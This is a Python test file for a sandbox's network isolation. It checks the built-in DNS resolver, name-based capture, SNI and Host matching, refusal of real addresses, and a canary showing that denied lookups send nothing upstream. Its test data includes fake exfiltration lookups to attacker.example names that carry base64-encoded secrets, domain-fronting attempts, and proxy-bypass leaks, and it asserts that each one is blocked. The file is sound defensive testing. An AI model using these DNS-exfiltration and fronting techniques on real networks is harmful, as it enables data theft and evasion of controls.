"""Network without the proxy variables (issue 11): the sandbox's own resolver (127.0.0.1:53, it
forwards nothing) and capture by name on every TCP port. Programs that do their own DNS and
connect (Node's fetch and https, python sockets, curl --noproxy, plain ssh) reach allowed names
through the proxy, which applies the same decision, SNI and Host checks and audit log; denied
names do not exist (NXDOMAIN, with a denial line); real addresses are refused with a denial line.

Names are pinned with --resolve to the host-side servers on 127.0.0.1, so each test proves what
arrived there; denied names are pinned to the same servers, so a leak would show."""

import os
import shutil
import socket
import struct
import subprocess
import threading
import time
from pathlib import Path

import pytest

from netutil import (ALLOWED, DENIED, HTTPRecorder, TCPRecorder, TLSRecorder, UDPRecorder,  # noqa: F401
                     allow, audit_lines, deny, http_server, inside, make_tls_context, pin, settle,
                     wait_for)

BASE = allow(ALLOWED) + pin(ALLOWED, DENIED)
FAKE_PREFIXES = ("198.18.", "198.19.")

# A DNS query and its answer's rcode and answer count, run inside (python, no resolver library).
DNS_HELPERS = """
def dns_query(name, qtype, tcp=False, qid=0x4242):
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\\0" + struct.pack(">HH", qtype, 1)
    if tcp:
        s = socket.create_connection(("127.0.0.1", 53), timeout=5)
        s.sendall(struct.pack(">H", len(q)) + q)
        n = struct.unpack(">H", s.recv(2))[0]
        a = b""
        while len(a) < n:
            a += s.recv(n - len(a))
        s.close()
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(5)
        s.sendto(q, ("127.0.0.1", 53))
        a = s.recv(4096)
        s.close()
    ident, flags, qd, an = struct.unpack(">HHHH", a[:8])
    return {"id": ident, "rcode": flags & 0xF, "answers": an, "qr": bool(flags & 0x8000)}
"""


def test_resolver_answers_allowed_names_and_nothing_else(sb, inside, scratch):
    log = Path(scratch) / "audit.jsonl"
    names = [ALLOWED, "Allowed.TEST", DENIED, "secret-c2VjcmV0.attacker.example"]
    r = inside(DNS_HELPERS + f"""
res = {{}}
for n in {names!r}:
    try:
        res[n] = sorted({{a[4][0] for a in socket.getaddrinfo(n, 443, 0, socket.SOCK_STREAM)}})
    except socket.gaierror as e:
        res[n] = "gaierror:" + str(e.errno)
res["resolv"] = open("/etc/resolv.conf").read()
res["a"] = dns_query("allowed.test", 1)
res["a_tcp"] = dns_query("allowed.test", 1, tcp=True)
res["aaaa"] = dns_query("allowed.test", 28)
res["txt"] = dns_query("allowed.test", 16)
res["any"] = dns_query("allowed.test", 255)
res["txt_denied"] = dns_query("exfil-c2VjcmV0.denied.test", 16)
res["any_denied_tcp"] = dns_query("denied.test", 255, tcp=True)
emit(**res)
""", flags=BASE + ["--audit-log", str(log)])
    j = r.json
    assert j, r
    # one address per name, from the reserved range, the same however it is spelled
    assert len(j[ALLOWED]) == 1 and j[ALLOWED][0].startswith(FAKE_PREFIXES), j
    assert j["Allowed.TEST"] == j[ALLOWED], j
    assert j[DENIED].startswith("gaierror:"), j
    assert j["secret-c2VjcmV0.attacker.example"].startswith("gaierror:"), j
    lines = [l for l in j["resolv"].splitlines() if l.strip() and not l.startswith("#")]
    assert lines == ["nameserver 127.0.0.1"], j["resolv"]
    for k in ("a", "a_tcp"):
        assert j[k]["qr"] and j[k]["rcode"] == 0 and j[k]["answers"] == 1 and j[k]["id"] == 0x4242, j
    for k in ("aaaa", "txt", "any"):
        assert j[k]["rcode"] == 0 and j[k]["answers"] == 0, (k, j)
    for k in ("txt_denied", "any_denied_tcp"):
        assert j[k]["rcode"] == 3 and j[k]["answers"] == 0, (k, j)
    # denial lines name the lookups, like other network denials
    assert "paddock: denied dns denied.test (default-deny" in r.err, r.err
    assert "paddock: denied dns secret-c2vjcmv0.attacker.example" in r.err, r.err
    assert "paddock: denied dns exfil-c2vjcmv0.denied.test" in r.err, r.err
    assert "allowed.test" not in r.err, r.err
    dns = [l for l in audit_lines(log) if l.get("protocol") == "dns"]
    assert dns and all(l["decision"] == "deny" for l in dns), dns
    assert {l["host"] for l in dns} >= {DENIED, "secret-c2vjcmv0.attacker.example"}, dns


@pytest.mark.parametrize("first", ["udp", "tcp"])
def test_first_query_of_a_run_is_answered(sb, inside, first):
    # The resolver starts at the sandbox's first query (supervisor.cc): one that comes over TCP,
    # before any UDP, must start it as well.
    r = inside(DNS_HELPERS + f"""
emit(a=dns_query("allowed.test", 1, tcp={first == "tcp"!r}))
""", flags=BASE)
    j = r.json
    assert j and j["a"]["rcode"] == 0 and j["a"]["answers"] == 1, r


def test_curl_noproxy_reaches_allowed_name_through_the_proxy(sb, http_server, scratch):
    port = http_server.port
    log = Path(scratch) / "audit.jsonl"
    r = sb.sh(f"curl -sS --noproxy '*' --max-time 10 http://{ALLOWED}:{port}/captured; echo; "
              f"curl -sS --noproxy '*' --max-time 10 http://{DENIED}:{port}/leak; echo rc=$?",
              flags=BASE + ["--audit-log", str(log)])
    assert http_server.token in r.out, r
    assert "rc=6" in r.out, r  # could not resolve host
    assert http_server.paths() == ["/captured"], http_server.requests
    assert http_server.requests[0]["host"] == f"{ALLOWED}:{port}"
    assert "paddock: denied dns denied.test" in r.err, r.err
    captured = [l for l in audit_lines(log) if l.get("protocol") == "captured"]
    assert len(captured) == 1 and captured[0]["decision"] == "allow" and captured[0]["host"] == ALLOWED, captured
    assert captured[0]["port"] == port and captured[0]["address"] == "127.0.0.1", captured


def test_plain_http_host_must_match_the_captured_name(sb, http_server):
    port = http_server.port
    r = sb.sh(f"curl -sS --noproxy '*' --max-time 10 -H 'Host: {DENIED}' "
              f"http://{ALLOWED}:{port}/fronted; echo rc=$?", flags=BASE)
    assert "rc=0" not in r.out, r
    settle()
    assert http_server.requests == [], http_server.requests
    assert f"paddock: denied captured {ALLOWED}:{port} (host-mismatch" in r.err, r.err


def test_port_not_allowed_for_the_name_is_refused(sb, inside, http_server):
    port = http_server.port
    r = inside(f"""
        try:
            s = socket.create_connection(("{ALLOWED}", {port}), timeout=5)
            s.sendall(b"GET /wrongport HTTP/1.1\\r\\nHost: {ALLOWED}\\r\\n\\r\\n")
            got = s.recv(100)
            emit(result="got:" + got.decode(errors="replace"))
        except OSError as e:
            emit(result="error:" + str(e.errno))
    """, flags=allow(f"{ALLOWED}:1") + pin(ALLOWED))
    assert r.json and not r.json["result"].startswith("got:HTTP"), r
    settle()
    assert http_server.requests == []
    assert f"paddock: denied captured {ALLOWED}:{port} (default-deny" in r.err, r.err


def test_python_socket_nonblocking_ipv4_and_ipv6(sb, inside, http_server):
    port = http_server.port
    r = inside(f"""
        import errno, select
        res = {{}}
        addr = socket.getaddrinfo("{ALLOWED}", {port}, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
        def get(s, path):
            s.sendall(("GET " + path + " HTTP/1.0\\r\\nHost: {ALLOWED}\\r\\n\\r\\n").encode())
            data = b""
            while True:
                b = s.recv(65536)
                if not b:
                    break
                data += b
            s.close()
            return data.decode(errors="replace")
        # non-blocking: EINPROGRESS (or at once), then writable with SO_ERROR 0
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        rc = s.connect_ex((addr, {port}))
        res["nb_rc"] = rc
        _, w, _ = select.select([], [s], [], 5)
        res["nb_writable"] = bool(w)
        res["nb_soerror"] = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        s.setblocking(True)
        s.settimeout(5)
        res["nb"] = get(s, "/nonblocking")
        # an IPv6 socket, v4-mapped
        s6 = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        s6.settimeout(5)
        s6.connect(("::ffff:" + addr, {port}))
        res["v6"] = get(s6, "/v4mapped")
        # create_connection (getaddrinfo, AF_UNSPEC), as most clients do
        res["cc"] = get(socket.create_connection(("{ALLOWED}", {port}), timeout=5), "/create")
        res["addr"] = addr
        emit(**res)
    """, flags=BASE)
    j = r.json
    assert j, r
    assert j["addr"].startswith(FAKE_PREFIXES), j
    assert j["nb_rc"] in (0, 115), j  # EINPROGRESS
    assert j["nb_writable"] and j["nb_soerror"] == 0, j
    for k in ("nb", "v6", "cc"):
        assert http_server.token in j[k], (k, j)
    assert sorted(http_server.paths()) == ["/create", "/nonblocking", "/v4mapped"]


def test_python_tls_handshake_with_sni_checked(sb, inside, scratch):
    ctx = make_tls_context(scratch, names=(ALLOWED, DENIED))
    if ctx is None:
        pytest.skip("openssl cannot make a test certificate here")
    crt = str(Path(scratch) / "tls.crt")
    with TLSRecorder(ctx) as tls:
        r = inside(f"""
            res = {{}}
            for label, sni in (("good", "{ALLOWED}"), ("fronted", "{DENIED}")):
                c = ssl.create_default_context(cafile={crt!r})
                try:
                    raw = socket.create_connection(("{ALLOWED}", {tls.port}), timeout=5)
                    s = c.wrap_socket(raw, server_hostname=sni)
                    res[label] = "handshake:" + s.version()
                    s.close()
                except (OSError, ssl.SSLError) as e:
                    res[label] = "error:" + type(e).__name__
            emit(**res)
        """, flags=BASE)
        j = r.json
        assert j, r
        assert j["good"].startswith("handshake:TLS"), j
        assert j["fronted"].startswith("error:"), j
        settle()
        assert tls.handshakes == 1 and tls.sni == [ALLOWED], (tls.handshakes, tls.sni)
    assert f"paddock: denied captured {ALLOWED}:{tls.port} (sni-mismatch" in r.err, r.err


def test_node_fetch_and_https(sb, scratch):
    node = shutil.which("node")
    if node is None:
        pytest.skip("node is not installed")
    ctx = make_tls_context(scratch, names=(ALLOWED,))
    if ctx is None:
        pytest.skip("openssl cannot make a test certificate here")
    crt = str(Path(scratch) / "tls.crt")
    with HTTPRecorder() as plain, HTTPRecorder(tls_ctx=ctx) as secure:
        script = Path(sb.project) / "fetch.js"
        script.write_text(f"""
const https = require("https");
const fs = require("fs");
(async () => {{
  const out = {{}};
  try {{
    const r = await fetch("http://{ALLOWED}:{plain.port}/node-fetch");
    out.fetch = r.status + ":" + (await r.text());
  }} catch (e) {{ out.fetch = "error:" + (e.cause ? e.cause.code : e.message); }}
  try {{
    await fetch("http://{DENIED}:{plain.port}/node-leak");
    out.denied = "reached";
  }} catch (e) {{ out.denied = "error:" + (e.cause ? e.cause.code : e.message); }}
  out.https = await new Promise((resolve) => {{
    https.get("https://{ALLOWED}:{secure.port}/node-https", {{ca: fs.readFileSync({crt!r})}},
      (res) => {{ let b = ""; res.on("data", (d) => b += d);
                  res.on("end", () => resolve(res.statusCode + ":" + b)); }})
      .on("error", (e) => resolve("error:" + e.code));
  }});
  console.log(JSON.stringify(out));
}})();
""")
        r = sb.exec([node, "fetch.js"], flags=BASE)
        j = None
        for line in reversed(r.out.splitlines()):
            if line.startswith("{"):
                import json
                j = json.loads(line)
                break
        assert j, r
        assert j["fetch"].strip() == "200:" + plain.token, j
        assert j["denied"] in ("error:ENOTFOUND", "error:EAI_AGAIN"), j
        assert j["https"].strip() == "200:" + secure.token, j
        assert plain.paths() == ["/node-fetch"] and secure.paths() == ["/node-https"]
    assert "paddock: denied dns denied.test" in r.err, r.err


def test_plain_ssh_reaches_a_pinned_server(sb):
    if shutil.which("ssh") is None:
        pytest.skip("ssh is not installed")
    # No sshd here: a server that speaks first with an SSH banner proves that plain `ssh host`
    # (no ProxyCommand, no proxy variables) reached it through capture, and what it sent.
    with TCPRecorder(banner=b"SSH-2.0-paddock_it\r\n") as srv:
        r = sb.sh(f"ssh -F /dev/null -o BatchMode=yes -o ConnectTimeout=5 "
                  f"-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
                  f"-p {srv.port} git@{ALLOWED} true; echo rc=$?; "
                  f"ssh -F /dev/null -o BatchMode=yes -o ConnectTimeout=5 -p {srv.port} "
                  f"git@{DENIED} true; echo rc=$?", flags=BASE)
        assert wait_for(lambda: b"SSH-2.0-OpenSSH" in srv.received), (srv.received, r)
        assert srv.connections == 1, r
    assert "paddock: denied dns denied.test" in r.err, r.err


def test_real_address_refused_with_denial_line(sb, inside, http_server):
    r = inside(f"""
        res = {{}}
        for label, fam, host, port in (("v4", socket.AF_INET, "93.184.216.34", 443),
                                       ("v6", socket.AF_INET6, "2606:4700:4700::1111", 80),
                                       ("mapped", socket.AF_INET6, "::ffff:1.1.1.1", 80),
                                       ("unnamed", socket.AF_INET, "198.18.255.1", 80)):
            s = socket.socket(fam, socket.SOCK_STREAM)
            s.settimeout(3)
            try:
                s.connect((host, port))
                res[label] = "connected"
            except OSError as e:
                res[label] = "error:" + str(e.errno)
            s.close()
        # TCP Fast Open connects inside sendto: not captured, refused with a line saying so
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.sendto(b"GET / HTTP/1.0\\r\\n\\r\\n", socket.MSG_FASTOPEN,
                     (socket.gethostbyname("{ALLOWED}"), {http_server.port}))
            res["tfo"] = "sent"
        except OSError as e:
            res["tfo"] = "error:" + str(e.errno)
        emit(**res)
    """, flags=BASE)
    j = r.json
    assert j and all(v.startswith("error:") for v in j.values()), r
    assert "(TCP Fast Open to a name's address is not captured" in r.err, r.err
    assert "paddock: denied connect 93.184.216.34:443 (a real address" in r.err, r.err
    assert "paddock: denied connect [2606:4700:4700::1111]:80 (a real address" in r.err, r.err
    assert "paddock: denied connect [::ffff:1.1.1.1]:80 (a real address" in r.err, r.err
    assert "paddock: denied connect 198.18.255.1:80 (an address of the resolver's range" in r.err
    settle()
    assert http_server.connections == 0


def test_udp_other_than_dns_stays_inside(sb, inside):
    with UDPRecorder() as udp:
        r = inside(f"""
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            res = {{}}
            for label, host in (("fake", socket.gethostbyname("{ALLOWED}")), ("host", "127.0.0.1")):
                try:
                    s.sendto(b"quic?", (host, {udp.port}))
                    res[label] = "sent"
                except OSError as e:
                    res[label] = "error:" + str(e.errno)
            emit(**res)
        """, flags=BASE)
        assert r.json, r
        settle()
        assert r.json["fake"].startswith("error:"), r.json
        assert udp.received == [], udp.received


CANARY_CONF = "nameserver 127.0.0.53\n"


class _Canary:
    """A DNS server on 127.0.0.53:53 (UDP and TCP) that records every query name it sees and
    answers SERVFAIL."""

    def __init__(self):
        self.names = []
        self._lock = threading.Lock()
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.udp.bind(("127.0.0.53", 53))
        self.udp.settimeout(0.1)
        self._stop = threading.Event()
        self._t = threading.Thread(target=self._loop, daemon=True)
        self._t.start()

    def _loop(self):
        while not self._stop.is_set():
            try:
                q, peer = self.udp.recvfrom(4096)
            except socket.timeout:
                continue
            except OSError:
                return
            name, i = [], 12
            while i < len(q) and q[i] != 0 and q[i] < 64:
                name.append(q[i + 1:i + 1 + q[i]].decode(errors="replace"))
                i += 1 + q[i]
            with self._lock:
                self.names.append(".".join(name).lower())
            self.udp.sendto(q[:2] + b"\x81\x82" + q[4:], peer)

    def seen(self):
        with self._lock:
            return list(self.names)

    def close(self):
        self._stop.set()
        self._t.join(timeout=5)
        self.udp.close()


def test_denied_lookups_send_nothing_upstream(sb, scratch):
    """The host's resolver is replaced (in a private mount namespace of this test only) by a
    canary; lookups inside never reach it, whether denied or allowed, and the positive control
    (the host itself asking) does."""
    if os.geteuid() != 0:
        pytest.skip("the canary resolver binds port 53 and mounts over /etc/resolv.conf in a "
                    "private mount namespace: root only (the sandbox side is the same for both "
                    "users)")
    try:
        canary = _Canary()
    except OSError as e:
        pytest.skip(f"cannot bind the canary at 127.0.0.53:53: {e}")
    conf = Path(scratch) / "resolv.conf"
    conf.write_text(CANARY_CONF)
    try:
        argv = sb.argv(["-c", "getent hosts leak-one.attacker.example; "
                              "getent hosts allowed.test; "
                              "python3 -c \"import socket\ntry: socket.getaddrinfo('leak-two.denied.test', 80)\n"
                              "except Exception as e: print('gai', e)\"; echo done"],
                       flags=allow(ALLOWED))
        wrapper = ("mount --bind \"$1\" /etc/resolv.conf && getent hosts host-control.example; "
                   "shift; exec \"$@\"")
        p = subprocess.run(["unshare", "--mount", "--propagation", "private", "sh", "-c", wrapper,
                            "sh", str(conf), *argv], cwd=str(sb.project), env=sb.env(),
                           capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)
        assert "done" in p.stdout, (p.stdout, p.stderr)
        assert "198.18." in p.stdout, p.stdout  # allowed.test answered inside, from the range
        settle(0.5)
        seen = canary.seen()
        assert "host-control.example" in seen, seen  # the canary works
        assert not any("leak" in n or "attacker" in n or "allowed.test" in n or "denied" in n
                       for n in seen), seen
        assert "paddock: denied dns leak-one.attacker.example" in p.stderr, p.stderr
        assert "paddock: denied dns leak-two.denied.test" in p.stderr, p.stderr
    finally:
        canary.close()
